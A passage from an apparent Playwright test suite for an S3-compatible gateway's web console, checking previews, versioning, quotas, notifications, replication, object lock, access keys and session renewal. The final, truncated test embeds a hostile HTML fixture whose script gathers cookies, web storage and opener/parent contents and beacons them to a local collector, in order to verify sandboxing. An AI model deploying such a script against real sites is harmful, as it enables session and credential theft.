      expect(ops.filter((r) => r.op === "ListParts").map((r) => r.status)).toEqual([200]);
      expect(ops.filter((r) => r.op === "CreateMultipartUpload")).toHaveLength(0);
    } finally {
      await page.unroute(match);
    }
    const res = await s3.fetch(objectUrl("retry.bin", MORE));
    expect(res.status).toBe(200);
    expect(sha256(new Uint8Array(await res.arrayBuffer()))).toBe(sha256(big));
    expect(res.headers.get("etag")).toMatch(/-2"$/);
    expect(await openUploads(MORE)).toEqual([]);
    expect(await resumeRecords()).toBe(0);
  });

  it("previews audio, video and PDF from presigned URLs that answer Range requests with 206", async () => {
    await clearFinished();
    // A WebM clip recorded by the browser itself (MediaRecorder on a canvas), in a page of its own.
    const scratch = await page.context().newPage();
    let webm: Buffer;
    try {
      const b64 = await scratch.evaluate(`(async () => {
        const c = document.createElement("canvas");
        c.width = 160;
        c.height = 120;
        document.body.append(c);
        const g = c.getContext("2d");
        const rec = new MediaRecorder(c.captureStream(25), { mimeType: "video/webm;codecs=vp8" });
        const chunks = [];
        rec.ondataavailable = (e) => chunks.push(e.data);
        let frame = 0;
        const timer = setInterval(() => { g.fillStyle = "hsl(" + ((frame++ * 15) % 360) + " 80% 50%)"; g.fillRect(0, 0, 160, 120); }, 40);
        rec.start(100);
        await new Promise((r) => setTimeout(r, 600));
        await new Promise((r) => { rec.onstop = r; rec.stop(); });
        clearInterval(timer);
        const bytes = new Uint8Array(await new Blob(chunks).arrayBuffer());
        let s = "";
        for (const b of bytes) s += String.fromCharCode(b);
        return btoa(s);
      })()`);
      webm = Buffer.from(b64 as string, "base64");
    } finally {
      await scratch.close();
    }
    expect(webm.length).toBeGreaterThan(200);
    const media = [
      { name: "tone.wav", mimeType: "audio/wav", buffer: wav(1.5) },
      { name: "clip.webm", mimeType: "video/webm", buffer: webm },
      { name: "doc.pdf", mimeType: "application/pdf", buffer: pdf("Hello from shardgate") },
    ];
    await page.getByLabel("Upload files").setInputFiles(media);
    await expect.poll(() => page.locator("#overall-text").textContent(), { timeout: 30_000 }).toContain("3 of 3 files uploaded");
    for (const { name, buffer } of media) {
      const res = await s3.fetch(objectUrl(name, MORE));
      expect(sha256(new Uint8Array(await res.arrayBuffer())), name).toBe(sha256(buffer));
    }

    /** The preview's src: a presigned GET of the object that serves byte ranges. */
    const checkSource = async (name: string, src: string | null, buffer: Buffer, contentType: string) => {
      expect(src).toBeTruthy();
      const url = new URL(src as string);
      expect(url.origin + url.pathname).toBe(objectUrl(name, MORE));
      expect(url.searchParams.get("X-Amz-Signature")).toBeTruthy();
      expect(url.searchParams.get("X-Amz-Expires")).toBe("3600");
      const ranged = await fetch(src as string, { headers: { range: "bytes=10-109" } });
      expect(ranged.status, name).toBe(206);
      expect(ranged.headers.get("content-range"), name).toBe(`bytes 10-109/${buffer.length}`);
      expect(ranged.headers.get("content-type"), name).toBe(contentType);
      expect(Buffer.from(await ranged.arrayBuffer()).equals(buffer.subarray(10, 110)), name).toBe(true);
    };

    // Audio: the element loads the WAV through the presigned URL, with the browser's own ranged request.
    const audioRanged = page.waitForResponse((r) => r.url().includes("/tone.wav?") && r.status() === 206, { timeout: 15_000 });
    await page.getByRole("button", { name: "tone.wav", exact: true }).click();
    const audio = page.getByLabel("Audio tone.wav");
    await audio.waitFor();
    await expect.poll(() => audio.evaluate((el) => (el as unknown as { readyState: number }).readyState), { timeout: 15_000 }).toBeGreaterThanOrEqual(1);
    expect(await audio.evaluate((el) => (el as unknown as { duration: number }).duration)).toBeCloseTo(1.5, 2);
    expect((await audioRanged).request().headers().range).toMatch(/^bytes=\d+-/);
    await checkSource("tone.wav", await audio.getAttribute("src"), media[0]!.buffer, "audio/wav");
    await page.getByRole("button", { name: "Close" }).click();

    // Video: decoded far enough to know its frame size.
    const videoRanged = page.waitForResponse((r) => r.url().includes("/clip.webm?") && r.status() === 206, { timeout: 15_000 });
    await page.getByRole("button", { name: "clip.webm", exact: true }).click();
    const video = page.getByLabel("Video clip.webm");
    await video.waitFor();
    await expect.poll(() => video.evaluate((el) => (el as unknown as { videoWidth: number }).videoWidth), { timeout: 15_000 }).toBe(160);
    expect(await video.evaluate((el) => (el as unknown as { videoHeight: number }).videoHeight)).toBe(120);
    await videoRanged;
    await checkSource("clip.webm", await video.getAttribute("src"), media[1]!.buffer, "video/webm");
    await page.getByRole("button", { name: "Close" }).click();

    // PDF: never framed in the console (Chromium shows no PDF in a sandboxed frame): a link that
    // opens the presigned URL in a tab of its own, without an opener, as application/pdf.
    await page.getByRole("button", { name: "doc.pdf", exact: true }).click();
    const open = page.getByRole("link", { name: "Open PDF doc.pdf" });
    await open.waitFor();
    expect(await page.locator(".preview iframe").count()).toBe(0);
    expect(await open.getAttribute("rel")).toBe("noopener noreferrer");
    const pdfAnswer = page.context().waitForEvent("response", { predicate: (r) => r.url().includes("/doc.pdf?"), timeout: 15_000 });
    const pdfTab = page.context().waitForEvent("page");
    await open.click();
    const tab = await pdfTab;
    expect((await pdfAnswer).headers()["content-type"]).toBe("application/pdf");
    expect(new URL(tab.url()).origin).toBe(gw.base);
    await tab.close();
    await checkSource("doc.pdf", await open.getAttribute("href"), media[2]!.buffer, "application/pdf");
    await page.getByRole("button", { name: "Close" }).click();
  });

  it("turns versioning on, lists an object's versions, restores an old one and deletes one", async () => {
    const bucket = "console-versions";
    expect((await s3.fetch(`${gw.base}/${bucket}`, { method: "PUT" })).status).toBe(200);
    await showBucket(bucket);
    await expect.poll(() => page.locator("#versioning-status").textContent()).toContain("Versioning is off");
    // A bucket setting is refused to the session: the console asks for the secret. Cancelled, the
    // setting stays as it was (and the console says why); with the secret, it is saved.
    const { sent, stop } = recordSent((method, url) => method === "PUT" && url.searchParams.has("versioning"));
    await page.getByRole("button", { name: "Enable versioning" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Enable" }).click();
    const ask = page.getByRole("dialog", { name: "Secret key needed" });
    await expect.poll(() => ask.textContent()).toContain("Temporary credentials cannot call PutBucketVersioning");
    await ask.getByRole("button", { name: "Cancel" }).click();
    await expect.poll(() => page.locator(".toast.error").last().textContent()).toContain("Not done: this change is signed with the secret key itself");
    expect(await ask.count()).toBe(0);
    expect(await page.locator("#versioning-status").textContent()).toContain("Versioning is off");
    expect(await (await s3.fetch(`${gw.base}/${bucket}?versioning`)).text()).not.toContain("<Status>");
    expect(sent).toEqual(["session 403"]);
    await page.getByRole("button", { name: "Enable versioning" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Enable" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#versioning-status").textContent()).toContain("Versioning is on");
    await expect.poll(() => sent).toEqual(["session 403", "session 403", `${CREDENTIALS.accessKeyId} 200`]);
    stop();
    expect(await storedText(page)).not.toContain(CREDENTIALS.secretAccessKey);
    expect(await (await s3.fetch(`${gw.base}/${bucket}?versioning`)).text()).toContain("<Status>Enabled</Status>");

    const put = async (text: string) =>
      (await s3.fetch(objectUrl("note.txt", bucket), { method: "PUT", body: text })).headers.get("x-amz-version-id") as string;
    const v1 = await put("first draft\n");
    const v2 = await put("second draft\n");
    await page.getByRole("button", { name: "Refresh" }).click();
    await page.getByRole("button", { name: "note.txt", exact: true }).click();
    const versions = page.getByRole("list", { name: "Versions of note.txt" });
    await expect.poll(() => versions.locator("li").count()).toBe(2);
    expect(await versions.locator("li.latest").textContent()).toContain(v2.slice(0, 12));
    await shot("object-versions");

    await page.getByRole("button", { name: `Restore version ${v1}` }).click();
    await expect.poll(() => versions.locator("li").count()).toBe(3);
    expect(await (await s3.fetch(objectUrl("note.txt", bucket))).text()).toBe("first draft\n");

    await page.getByRole("button", { name: `Delete version ${v2}` }).click();
    await page.getByRole("dialog", { name: "Delete version" }).getByRole("button", { name: "Delete" }).click();
    await expect.poll(() => versions.locator("li").count()).toBe(2);
    const listed = await (await s3.fetch(`${gw.base}/${bucket}?versions`)).text();
    expect(listed).not.toContain(v2);
    expect(listed).toContain(v1);
    await page.getByRole("button", { name: "Close" }).click();
  });

  it("sets a bucket's quota from its Quota panel: usage against it, a write past it refused, a bad size said, then removed", async () => {
    const bucket = "console-quota";
    expect((await s3.fetch(`${gw.base}/${bucket}`, { method: "PUT" })).status).toBe(200);
    expect((await s3.fetch(objectUrl("a.txt", bucket), { method: "PUT", body: "a".repeat(600) })).status).toBe(200);
    await showBucket(bucket);
    await page.locator("details.quota summary").click();
    await expect.poll(() => page.locator("#quota-usage").textContent()).toContain("600 B (no limit)");
    await page.locator("#quota-bytes").fill("ten gigs");
    await page.getByRole("button", { name: "Save quota" }).click();
    await expect.poll(() => page.locator("#quota-error").textContent()).toContain("Most bytes");
    await page.locator("#quota-bytes").fill("1 KiB");
    await page.locator("#quota-objects").fill("5");
    await page.getByRole("button", { name: "Save quota" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#quota-usage").textContent()).toContain("of 1.0 KiB");
    expect(await page.locator("#quota-usage").textContent()).toContain("1 of 5");
    await shot("bucket-quota");
    const over = await s3.fetch(objectUrl("b.txt", bucket), { method: "PUT", body: "b".repeat(500) });
    expect(over.status).toBe(403);
    expect(await over.text()).toContain("QuotaExceeded");
    // A limit lowered below what is stored: the panel says the bucket is over it. "1 KB" is 1 KiB,
    // as the panel shows sizes.
    expect(await page.locator("#quota-over").count()).toBe(0);
    await page.locator("#quota-bytes").fill("512");
    await page.getByRole("button", { name: "Save quota" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#quota-over").textContent()).toContain("Over quota");
    expect(await page.locator("details.quota summary").textContent()).toContain("(over quota)");
    await page.locator("#quota-bytes").fill("1 KB");
    await page.getByRole("button", { name: "Save quota" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#quota-usage").textContent()).toContain("of 1.0 KiB");
    expect(await page.locator("#quota-over").count()).toBe(0);
    await page.getByRole("button", { name: "Remove quota" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#quota-usage").textContent()).toContain("(no limit)");
    expect((await s3.fetch(objectUrl("b.txt", bucket), { method: "PUT", body: "b".repeat(500) })).status).toBe(200);
  });

  it("Notifications panel: a rule added, refusals (unknown webhook, overlap) in the gateway's words with what was typed kept, dead letters retried, the rule removed", async () => {
    const bucket = "console-notify";
    expect((await s3.fetch(`${gw.base}/${bucket}`, { method: "PUT" })).status).toBe(200);
    const stored = async () => (await (await s3.fetch(`${gw.base}/${bucket}?notification`)).text()).replace(/^<\?xml[^>]*>/, "");
    await showBucket(bucket);
    const summary = page.locator("details.notifications summary");
    await summary.click();
    await expect.poll(() => summary.textContent()).toBe("Notifications: none");
    await expect.poll(() => page.locator("#notifications-counts").textContent()).toBe("Events waiting: 0; dead letters: 0.");
    await page.getByRole("button", { name: "Add rule" }).click();
    await expect.poll(() => page.locator("#notification-error").textContent()).toContain("Name the webhook");

    await page.locator("#notification-target").fill("nowhere");
    await page.locator("#notification-prefix").fill("images/");
    await page.getByRole("checkbox", { name: "s3:ObjectCreated:*" }).uncheck();
    await page.getByRole("button", { name: "Add rule" }).click();
    await expect.poll(() => page.locator("#notification-error").textContent()).toBe("Pick at least one event.");
    await page.getByRole("checkbox", { name: "s3:ObjectCreated:*" }).check();
    await page.getByRole("checkbox", { name: "s3:ObjectRemoved:*" }).check();
    await page.getByRole("button", { name: "Add rule" }).click();
    await withSecret();
    await expect
      .poll(() => page.locator("#notification-error").textContent())
      .toContain("Unable to validate the following destination configurations: arn:shardgate:webhook::nowhere");
    expect(await page.locator("#notification-prefix").inputValue()).toBe("images/");
    expect(await page.getByRole("checkbox", { name: "s3:ObjectRemoved:*" }).isChecked()).toBe(true);
    expect(await stored()).not.toContain("<QueueConfiguration>");
    // A Queue binding is a target on Cloudflare only: this runtime has none, so the name is refused.
    await page.locator("#notification-kind").selectOption("queue");
    await page.getByRole("button", { name: "Add rule" }).click();
    await withSecret();
    await expect
      .poll(() => page.locator("#notification-error").textContent())
      .toContain("Unable to validate the following destination configurations: arn:shardgate:queue::nowhere");
    await page.locator("#notification-kind").selectOption("webhook");

    await page.locator("#notification-target").fill("console-hook");
    await page.locator("#notification-suffix").fill(".png");
    await page.locator("#notification-id").fill("images & <png>");
    await page.getByRole("button", { name: "Add rule" }).click();
    await withSecret();
    await expect.poll(() => summary.textContent()).toBe("Notifications: 1 rule");
    const rules = page.getByRole("list", { name: "Notification rules" });
    expect(await rules.textContent()).toContain("images & <png> → webhook console-hook: s3:ObjectCreated:*, s3:ObjectRemoved:* (prefix images/, suffix .png)");
    const doc = await stored();
    expect(doc).toContain("<Id>images &amp; &lt;png&gt;</Id><Queue>arn:shardgate:webhook::console-hook</Queue>");
    expect(doc).toContain("<Event>s3:ObjectCreated:*</Event><Event>s3:ObjectRemoved:*</Event>");
    expect(doc).toContain("<FilterRule><Name>Prefix</Name><Value>images/</Value></FilterRule><FilterRule><Name>Suffix</Name><Value>.png</Value></FilterRule>");

    // Overlapping the first rule (the same event, every key): refused, the rule and the form kept.
    await page.locator("#notification-target").fill("console-hook");
    await page.getByRole("checkbox", { name: "s3:ObjectRemoved:*" }).uncheck();
    await page.getByRole("button", { name: "Add rule" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#notification-error").textContent()).toContain("Configurations overlap");
    expect(await page.locator("#notification-target").inputValue()).toBe("console-hook");
    expect(await rules.locator("li").count()).toBe(1);

    // An event for the webhook that answers nothing: a dead letter after two attempts, then retried.
    expect((await s3.fetch(objectUrl("images/a.png", bucket), { method: "PUT", body: "png" })).status).toBe(200);
    const admin = `${gw.base}/_shardgate/admin/buckets/${bucket}/notifications`;
    await expect.poll(async () => ((await (await s3.fetch(admin)).json()) as { deadLetters: number }).deadLetters, { timeout: 20_000 }).toBe(1);
    await summary.click(); // closed and opened again: the counts are read again
    await summary.click();
    await expect.poll(() => page.locator("#notifications-counts").textContent()).toBe("Events waiting: 0; dead letters: 1.");
    await page.getByRole("button", { name: "Retry dead letters" }).click();
    await withSecret();
    await expect.poll(() => page.locator(".toast").last().textContent()).toContain("1 dead letter sent again.");

    await page.getByRole("button", { name: "Remove rule images & <png>" }).click();
    await withSecret();
    await expect.poll(() => page.locator("details.notifications summary").textContent()).toBe("Notifications: none");
    expect(await stored()).not.toContain("<QueueConfiguration>");
  });

  it("Replication panel: a rule to a bucket of this gateway refused until both keep versions, stored, an object replicated and shown so, then removed", async () => {
    const [bucket, copy] = ["console-repl", "console-repl-copy"];
    for (const b of [bucket, copy]) expect((await s3.fetch(`${gw.base}/${b}`, { method: "PUT" })).status).toBe(200);
    const enableVersioning = async (b: string) =>
      expect(
        (
          await s3.fetch(`${gw.base}/${b}?versioning`, {
            method: "PUT",
            body: '<VersioningConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Status>Enabled</Status></VersioningConfiguration>',
          })
        ).status,
      ).toBe(200);
    await showBucket(bucket);
    await page.locator("details.replication summary").click();
    await expect.poll(() => page.locator("details.replication summary").textContent()).toBe("Replication: off");
    await page.locator("#replication-destination").fill(copy);
    await page.locator("#replication-prefix").fill("docs/");
    await page.getByRole("button", { name: "Add replication rule" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#replication-error").textContent()).toBe("Destination bucket must have versioning enabled.");
    await enableVersioning(copy);
    await page.getByRole("button", { name: "Add replication rule" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#replication-error").textContent()).toContain("Versioning must be 'Enabled' on the bucket");
    expect(await page.locator("#replication-destination").inputValue()).toBe(copy);
    await enableVersioning(bucket);
    await page.getByRole("button", { name: "Add replication rule" }).click();
    await withSecret();
    await expect.poll(() => page.locator("details.replication summary").textContent()).toBe("Replication: 1 rule");
    expect(await page.locator("#replication-error").textContent()).toBe("");
    expect(await page.getByRole("list", { name: "Replication rules" }).textContent()).toContain(
      `bucket ${copy} of this gateway: keys under docs/, deletes replicated`,
    );
    await expect.poll(() => page.locator("#replication-counts").textContent()).toContain("Versions waiting: 0; failed: 0");
    const config = await (await s3.fetch(`${gw.base}/${bucket}?replication`)).text();
    expect(config).toContain(`<Bucket>arn:aws:s3:::${copy}</Bucket>`);
    expect(config).toContain("<Prefix>docs/</Prefix>");
    expect(config).toMatch(/<DeleteMarkerReplication><Status>Enabled<\/Status>/);

    expect((await s3.fetch(objectUrl("docs/a.txt", bucket), { method: "PUT", body: "replicate me\n" })).status).toBe(200);
    await expect
      .poll(async () => (await s3.fetch(objectUrl("docs/a.txt", bucket), { method: "HEAD" })).headers.get("x-amz-replication-status"), { timeout: 20_000 })
      .toBe("COMPLETED");
    expect(await (await s3.fetch(objectUrl("docs/a.txt", copy))).text()).toBe("replicate me\n");
    await page.evaluate(`location.hash = ${JSON.stringify(`#/b/${bucket}/docs/`)}`);
    await page.getByRole("button", { name: "a.txt", exact: true }).click();
    await expect.poll(() => page.locator("#object-replication").textContent()).toContain("completed");
    await page.getByRole("button", { name: "Close" }).click();

    await showBucket(bucket);
    await page.locator("details.replication summary").click();
    await page.getByRole("button", { name: "Remove replication rule rule-1" }).click();
    await withSecret();
    await expect.poll(() => page.locator("details.replication summary").textContent()).toBe("Replication: off");
    const gone = await s3.fetch(`${gw.base}/${bucket}?replication`);
    expect(gone.status).toBe(404);
    expect(await gone.text()).toContain("ReplicationConfigurationNotFoundError");
  });

  it("creates a bucket with object lock, adds and deletes lifecycle rules, shows an object's retention and places a legal hold", async () => {
    const bucket = "console-lock";
    await page.locator("#nav-buckets").click();
    await page.getByLabel("New bucket name").fill(bucket);
    await page.getByLabel("Object lock").check();
    await page.getByRole("button", { name: "Create bucket" }).click();
    await withSecret();
    await page.getByRole("link", { name: bucket }).waitFor();
    expect(await (await s3.fetch(`${gw.base}/${bucket}?versioning`)).text()).toContain("<Status>Enabled</Status>");
    expect((await s3.fetch(`${gw.base}/${bucket}?object-lock`)).status).toBe(200);

    // A rule the console's form cannot make (a tag filter) goes back unchanged when others change.
    const tagged =
      "<Rule><ID>scratch</ID><Filter><Tag><Key>kind</Key><Value>scratch</Value></Tag></Filter><Status>Enabled</Status><Expiration><Days>1</Days></Expiration></Rule>";
    const put = await s3.fetch(`${gw.base}/${bucket}?lifecycle`, { method: "PUT", body: `<LifecycleConfiguration>${tagged}</LifecycleConfiguration>` });
    expect(put.status).toBe(200);
    await showBucket(bucket);
    await expect.poll(() => page.locator("#versioning-status").textContent()).toContain("Versioning is on for good");
    expect(await page.locator("#versioning-toggle").isHidden()).toBe(true);
    const panel = page.locator("details.protection");
    await expect.poll(() => panel.locator("summary").textContent()).toBe("Lifecycle rules: 1 · Object lock: on · Encryption: off");
    await panel.locator("summary").click();
    expect(await page.locator("#object-lock-status").textContent()).toContain("Object lock is on");
    const rules = page.getByRole("list", { name: "Lifecycle rules" });
    expect(await rules.textContent()).toContain("Everywhere, tagged kind=scratch: objects expire 1 day after they are written.");

    await page.getByLabel("Rule name").fill("tmp");
    await page.getByLabel("Key prefix (empty: every object)").fill("tmp/");
    await page.getByLabel("Expire objects after (days)").fill("7");
    await page.getByLabel("Delete earlier versions after (days)").fill("3");
    await page.getByRole("button", { name: "Add rule" }).click();
    await withSecret();
    await expect.poll(() => rules.locator("li").count()).toBe(2);
    expect(await rules.locator("li").nth(1).textContent()).toContain(
      "Under “tmp/”: objects expire 7 days after they are written; earlier versions are deleted 3 days after they are replaced.",
    );
    const stored = await (await s3.fetch(`${gw.base}/${bucket}?lifecycle`)).text();
    expect(stored).toContain("<Filter><Prefix>tmp/</Prefix></Filter>");
    expect(stored).toContain("<NoncurrentVersionExpiration><NoncurrentDays>3</NoncurrentDays></NoncurrentVersionExpiration>");
    // Default encryption on: the next upload is stored encrypted, and its details say so.
    await page.locator("#default-encryption").check();
    await withSecret();
    await expect.poll(() => panel.locator("summary").textContent()).toContain("Encryption: SSE-S3");
    expect(await (await s3.fetch(`${gw.base}/${bucket}?encryption`)).text()).toContain("<SSEAlgorithm>AES256</SSEAlgorithm>");
    await shot("bucket-protection");

    await page.getByRole("button", { name: "Delete rule tmp" }).click();
    await page.getByRole("dialog", { name: "Delete rule" }).getByRole("button", { name: "Delete" }).click();
    await withSecret();
    await expect.poll(() => rules.locator("li").count()).toBe(1);
    const left = await (await s3.fetch(`${gw.base}/${bucket}?lifecycle`)).text();
    expect(left).toContain("<Tag><Key>kind</Key><Value>scratch</Value></Tag>");
    expect(left).not.toContain("tmp/");

    // An object locked in GOVERNANCE mode: its retention shows, and the legal hold can be placed.
    const body = "kept for a while\n";
    const until = new Date(Date.now() + 5 * 24 * 3600 * 1000);
    const locked = await s3.fetch(objectUrl("locked.txt", bucket), {
      method: "PUT",
      body,
      headers: {
        "x-amz-checksum-sha256": createHash("sha256").update(body).digest("base64"),
        "x-amz-object-lock-mode": "GOVERNANCE",
        "x-amz-object-lock-retain-until-date": until.toISOString(),
      },
    });
    expect(locked.status).toBe(200);
    await page.getByRole("button", { name: "Refresh" }).click();
    await page.getByRole("button", { name: "locked.txt", exact: true }).click();
    await expect.poll(() => page.locator("#retention").textContent()).toMatch(/^GOVERNANCE until /);
    expect(await page.locator("#object-encryption").textContent()).toContain("SSE-S3");
    expect(await page.locator("#legal-hold").textContent()).toBe("off");
    await page.getByRole("button", { name: "Place legal hold" }).click();
    await expect.poll(() => page.locator("#legal-hold").textContent()).toBe("on");
    expect(await (await s3.fetch(`${objectUrl("locked.txt", bucket)}?legal-hold`)).text()).toContain("<Status>ON</Status>");
    await page.getByRole("button", { name: "Lift legal hold" }).click();
    await expect.poll(() => page.locator("#legal-hold").textContent()).toBe("off");
    expect(await (await s3.fetch(`${objectUrl("locked.txt", bucket)}?legal-hold`)).text()).toContain("<Status>OFF</Status>");
    await page.getByRole("button", { name: "Close" }).click();
  });

  it("manages access keys: creates one (secret shown once), gives it rights and a public prefix from the bucket's Permissions panel, disables it", async () => {
    const bucket = "console-keys";
    expect((await s3.fetch(`${gw.base}/${bucket}`, { method: "PUT" })).status).toBe(200);
    expect((await s3.fetch(objectUrl("pub/hello.txt", bucket), { method: "PUT", body: "public hello" })).status).toBe(200);
    await page.locator("#nav-keys").click();
    await page.getByLabel("Key name").fill("console writer");
    await page.getByRole("button", { name: "Create key" }).click();
    const wrong = await withSecret("not-the-secret");
    await expect.poll(() => wrong.locator(".error").textContent()).toContain("The secret key does not match");
    await withSecret();
    const created = page.getByRole("dialog", { name: "New access key" });
    await created.waitFor();
    const id = (await page.locator("#created-key-id").textContent()) as string;
    const secret = (await page.locator("#created-key-secret").textContent()) as string;
    expect(id).toMatch(/^SG[A-Z0-9]{18}$/);
    expect(secret).toMatch(/^[A-Za-z0-9]{40}$/);
    await created.getByRole("button", { name: "Close" }).click();
    const row = page.locator(`tr[data-key="${id}"]`);
    await expect.poll(() => row.textContent()).toContain("Enabled");
    expect(await row.textContent()).toContain("console writer");
    const writer = new AwsClient({ accessKeyId: id, secretAccessKey: secret, service: "s3", region: "us-east-1", retries: 0 });
    expect((await writer.fetch(objectUrl("by-key.txt", bucket), { method: "PUT", body: "k" })).status).toBe(403);
    await shot("keys");

    // The bucket's Permissions panel: read and write for the new key, a public prefix, a refused policy.
    await showBucket(bucket);
    const panel = page.locator("details.permissions");
    await panel.locator("summary").click();
    await page.getByLabel("Key to give rights to").selectOption(id);
    await page.locator("#grant-write").check();
    await page.getByRole("button", { name: "Give rights" }).click();
    await withSecret();
    await expect.poll(() => panel.locator("summary").textContent()).toContain("Permissions: 1 key");
    expect(await storedText(page)).not.toContain(CREDENTIALS.secretAccessKey);
    expect((await writer.fetch(objectUrl("by-key.txt", bucket), { method: "PUT", body: "k" })).status).toBe(200);
    expect(await page.getByLabel("owner for console writer").isChecked()).toBe(false);

    expect((await fetch(objectUrl("pub/hello.txt", bucket))).status).toBe(403);
    await page.locator("#public-prefix").fill("pub/");
    await page.getByRole("button", { name: "Make public" }).click();
    await withSecret();
    await expect.poll(() => panel.locator("summary").textContent()).toContain("Public: “pub/”");
    const anonymous = await fetch(objectUrl("pub/hello.txt", bucket));
    expect(anonymous.status).toBe(200);
    expect(await anonymous.text()).toBe("public hello");
    expect((await fetch(objectUrl("by-key.txt", bucket))).status).toBe(403);
    expect(await page.locator("#bucket-policy").inputValue()).toContain("ConsolePublicRead");
    await shot("bucket-permissions");

    const conditioned = JSON.stringify({
      Statement: [
        {
          Effect: "Allow",
          Principal: "*",
          Action: "s3:GetObject",
          Resource: `arn:aws:s3:::${bucket}/*`,
          Condition: { Bool: { "aws:SecureTransport": "true" } },
        },
      ],
    });
    await page.locator("#bucket-policy").fill(conditioned);
    await page.getByRole("button", { name: "Save policy" }).click();
    await withSecret();
    await expect.poll(() => page.locator("#policy-error").textContent()).toContain("Conditions are not supported");
    await page.getByRole("button", { name: "Make pub/ private" }).click();
    await withSecret();
    await expect.poll(() => panel.locator("summary").textContent()).toContain("Public: no");
    expect((await fetch(objectUrl("pub/hello.txt", bucket))).status).toBe(403);

    // Signed in with the new key, the Keys page says who may use it.
    const other = await browser.newContext();
    const page2 = await other.newPage();
    await page2.goto(`${gw.consoleBase}/`);
    await signIn(page2, id, secret);
    await page2.locator("#nav-keys").click();
    await expect.poll(() => page2.locator("#keys-error").textContent()).toContain("Only the root key can manage access keys");
    await other.close();

    // Disabled (with the root secret, as every change of a key): refused at once.
    await page.locator("#nav-keys").click();
    await page.getByRole("button", { name: "Disable key console writer" }).click();
    await withSecret();
    await expect.poll(() => page.locator(`tr[data-key="${id}"]`).textContent()).toContain("Disabled");
    const refused = await writer.fetch(objectUrl("by-key.txt", bucket));
    expect(refused.status).toBe(403);
    expect(await refused.text()).toContain("InvalidAccessKeyId");
    // Enabled and disabled again, each with the root secret.
    await page.getByRole("button", { name: "Enable key console writer" }).click();
    await withSecret();
    await expect.poll(() => page.locator(`tr[data-key="${id}"]`).textContent()).toContain("Enabled");
    expect((await writer.fetch(objectUrl("by-key.txt", bucket))).status).toBe(200);
    await page.getByRole("button", { name: "Disable key console writer" }).click();
    await withSecret();
    await expect.poll(() => page.locator(`tr[data-key="${id}"]`).textContent()).toContain("Disabled");
    await page.locator("#nav-buckets").click();
  });

  it("asks for the secret again before the hour is up, signs on with the renewed session, and signs out when it ends", async () => {
    const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, colorScheme: "light" });
    try {
      await ctx.clock.install();
      const p = await ctx.newPage();
      const keys: string[] = [];
      p.on("request", (r) => {
        const key = /Credential=(ASIA[^/]+)\//.exec(r.headers().authorization ?? "")?.[1];
        if (key) keys.push(key);
      });
      await p.goto(`${gw.consoleBase}/`);
      await signIn(p);
      await p.getByRole("button", { name: "Create bucket" }).waitFor();
      const first = keys.at(-1);
      expect(first).toBeTruthy();
      // 56 minutes on: the console asks for the secret (then the page's clock is set back to the
      // real time, which the gateway checks signatures against).
      await p.clock.fastForward("56:00");
      const dialog = p.getByRole("dialog");
      await expect.poll(() => dialog.textContent()).toContain("This session ends in 4 minutes");
      await p.clock.setSystemTime(Date.now());
      expect(await dialog.getByLabel("Access key").inputValue()).toBe(CREDENTIALS.accessKeyId);
      await dialog.getByLabel("Secret key").fill(CREDENTIALS.secretAccessKey);
      await dialog.getByRole("button", { name: "Continue" }).click();
      await expect.poll(() => p.locator(".toast").textContent()).toContain("Session renewed");
      await p.getByRole("link", { name: BUCKET }).click();
      await expect.poll(() => p.locator("#list-status").textContent()).toContain("Page 1");
      expect(keys.at(-1)).not.toBe(first);
      expect(await storedText(p)).not.toContain("ASIA");
      // Not renewed again: once it has ended, the sign-in page says so.
      await p.clock.fastForward("56:00");
      await p.getByRole("dialog").getByRole("button", { name: "Close" }).click();
      await p.clock.fastForward("05:00");
      await expect.poll(() => p.locator(".signin .note").textContent()).toContain("The session ended");
      await p.getByLabel("Secret key").waitFor();
    } finally {
      await ctx.close();
    }
  });

  it("a stored HTML object (report.pdf, text/html, with a script) reads nothing of the console's, opened from the console or directly", async () => {
    // What the hostile page finds is sent to a server of the test's own.
    const reports: Record<string, string>[] = [];
    const server = createServer((req, res) => {
      const found = new URL(req.url ?? "/", "http://report").searchParams.get("d");
      if (found) reports.push(JSON.parse(found) as Record<string, string>);
      res.writeHead(204).end();
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    const reportUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/r`;
    const hostile = `<!doctype html><title>Quarterly report</title><p>Quarterly report</p><script>
      const found = { origin: location.origin, storage: "", cookie: document.cookie, opener: "none", parent: "none", gateway: "" };
      for (const name of ["sessionStorage", "localStorage"]) {
        try { const s = window[name]; for (let i = 0; i < s.length; i++) found.storage += s.key(i) + "=" + s.getItem(s.key(i)) + ";"; }
        catch (e) { found.storage += name + ": " + e.name + ";"; }
      }
      try { if (opener) found.opener = opener.location.href + " " + JSON.stringify(Object.entries(opener.sessionStorage)); } catch (e) { found.opener = "blocked: " + e.name; }
      try { if (parent !== window) found.parent = parent.location.href + " " + parent.document.body.innerText.slice(0, 100); } catch (e) { found.parent = "blocked: " + e.name; }
      fetch("/").then((r) => String(r.status), (e) => "failed: " + e.name).then((status) => {
        found.gateway = status;
        new Image().src = ${JSON.stringify(reportUrl)} + "?d=" + encodeURIComponent(JSON.stringify(found));
      });
    </script>`;
    try {
      expect((await s3.fetch(objectUrl("report.pdf", MORE), { method: "PUT", body: hostile, headers: { "content-type": "text/html" } })).status).toBe(200);
      const presigned = (await s3.sign(`${objectUrl("report.pdf", MORE)}?X-Amz-Expires=600`, { aws: { signQuery: true } })).url;

      // In the console: previewed by its Content-Type (HTML, shown as its source text), not by its name.
      await showBucket(MORE);
      await page.getByRole("button", { name: "report.pdf", exact: true }).click();
      await expect.poll(() => page.getByLabel("Text of report.pdf").textContent()).toContain("<script>");
      expect(await page.locator(".preview iframe").count()).toBe(0);
      await page.getByRole("button", { name: "Close" }).click();

      // Opened from the console's tab (window.open: the page gets an opener) and directly: served
      // with Content-Security-Policy: sandbox on the gateway's origin, so its script never runs.
